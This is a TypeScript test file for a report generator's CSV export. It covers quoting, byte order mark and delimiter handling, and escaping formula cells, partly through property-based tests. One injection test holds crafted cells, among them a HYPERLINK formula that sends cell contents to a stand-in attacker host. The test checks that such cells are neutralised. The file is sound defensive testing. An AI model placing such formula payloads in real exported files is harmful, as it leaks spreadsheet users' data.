// CSV exports read back with csv-parse, a parser independent of the csv-stringify writer.
import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { escapeFormula } from "../../src/reports/formula-escape";
import { ReportGenerator } from "../../src/reports/report-generator";
import { GUIDE_PERIOD, SEPTEMBER_1, sampleReport } from "./report-fixtures";

// Characters that need quoting or escaping, mixed with any Unicode character.
const CELL_UNIT = fc.oneof(
  fc.constantFrom('"', ",", ";", "\r", "\n", "=", "-", "+", "@", "\t", "é", "ł", "€"),
  fc.string({ unit: "grapheme", minLength: 1, maxLength: 1 }),
);
const HEADER = ["period_start", "period_end", "metric", "count", "sum", "mean", "min", "max", "p50", "p95"];

function readCsv(content: Uint8Array, delimiter = ","): string[][] {
  return parse(Buffer.from(content), { delimiter, bom: true, relax_column_count: false }) as string[][];
}

describe("CSV export", { timeout: 30_000 }, () => {
  it("holds every bucket row, parsed back equal to the report (numbers, empty statistics, accents)", async () => {
    const { reports, report } = sampleReport();
    const exported = await reports.exportReport(report.id, "csv");
    const [header, ...records] = readCsv(exported.content);

    expect(header).toEqual(HEADER);
    expect(records).toHaveLength(report.rows.length);
    records.forEach((record, index) => {
      const row = report.rows[index];
      expect(record.slice(0, 3)).toEqual([row?.start, row?.end, row?.metric]);
      const stats = [row?.count, row?.sum, row?.mean, row?.min, row?.max, row?.p50, row?.p95];
      expect(record.slice(3).map((cell) => (cell === "" ? null : Number(cell)))).toEqual(stats);
    });
    // RFC 4180: CRLF line ends; UTF-8 without a byte order mark unless asked.
    const text = Buffer.from(exported.content).toString("utf8");
    expect(text.startsWith("period_start,")).toBe(true);
    expect(text.split("\r\n")).toHaveLength(report.rows.length + 2);
    expect(text).toContain("zażółć gęślą");
  });

  it("starts with a byte order mark when asked and honours the delimiter", async () => {
    const { reports, report } = sampleReport();
    const exported = await reports.exportReport(report.id, "csv", { bom: true, delimiter: ";" });
    expect([...Buffer.from(exported.content).subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(readCsv(exported.content, ";")[0]).toEqual(HEADER);
  });

  it("makes a crafted formula cell inert by default, and keeps it verbatim only when told", async () => {
    const reports = new ReportGenerator();
    const crafted = [
      '=HYPERLINK("http://attacker.example/?x="&A1,"Click")',
      "+1+1",
      "-2+3",
      "@SUM(A1)",
      "\tcmd",
      "ok\n=1+2",
    ];
    const rows = crafted.map((metric) => ({ metric, timestamp: SEPTEMBER_1, value: 1 }));
    const report = reports.generateReport("Injection", crafted, GUIDE_PERIOD, "csv", { rows });

    const safe = readCsv((await reports.exportReport(report.id, "csv")).content);
    const safeMetrics = safe.slice(1, crafted.length + 1).map((record) => record[2]);
    expect(safeMetrics).toEqual([`'${crafted[0]}`, "'+1+1", "'-2+3", "'@SUM(A1)", "'\tcmd", "ok\n'=1+2"]);
    const raw = readCsv((await reports.exportReport(report.id, "csv", { escapeFormulas: false })).content);
    expect(raw.slice(1, crafted.length + 1).map((record) => record[2])).toEqual(crafted);
  });

  it("round-trips any metric name through quoting (property)", async () => {
    const reports = new ReportGenerator({ maxReports: 1 });
    await fc.assert(
      fc.asyncProperty(
        fc.uniqueArray(fc.string({ unit: CELL_UNIT, minLength: 1, maxLength: 20 }), { minLength: 1, maxLength: 4 }),
        async (metrics) => {
          const rows = metrics.map((metric, index) => ({ metric, timestamp: SEPTEMBER_1, value: index }));
          const report = reports.generateReport("P", metrics, { start: "2025-09-01", end: "2025-09-01" }, "csv", {
            rows,
          });
          const raw = readCsv((await reports.exportReport(report.id, "csv", { escapeFormulas: false })).content);
          expect(raw.slice(1).map((record) => record[2])).toEqual(metrics);
          const safe = readCsv((await reports.exportReport(report.id, "csv")).content);
          expect(safe.slice(1).map((record) => record[2])).toEqual(metrics.map(escapeFormula));
        },
      ),
      { numRuns: 60 },
    );
  });
});

describe("escapeFormula", () => {
  it("leaves no cell or line starting with a formula trigger, and only ever inserts apostrophes (property)", () => {
    fc.assert(
      fc.property(
        fc.string({ unit: fc.constantFrom("=", "+", "-", "@", "\t", "\r", "\n", "a", "1", " ", "'") }),
        (text) => {
          const escaped = escapeFormula(text);
          expect(/^[=+\-@\t\r]/.test(escaped)).toBe(false);
          expect(/[\r\n][=+\-@\t]/.test(escaped)).toBe(false);
          // Only apostrophes were inserted: nothing else changed.
          expect(escaped.replaceAll("'", "")).toBe(text.replaceAll("'", ""));
          expect(escaped.length).toBeGreaterThanOrEqual(text.length);
        },
      ),
    );
  });

  it("keeps harmless text as it is", () => {
    expect(escapeFormula("total_revenue")).toBe("total_revenue");
    expect(escapeFormula("a-b=c")).toBe("a-b=c");
    expect(escapeFormula("")).toBe("");
  });
});
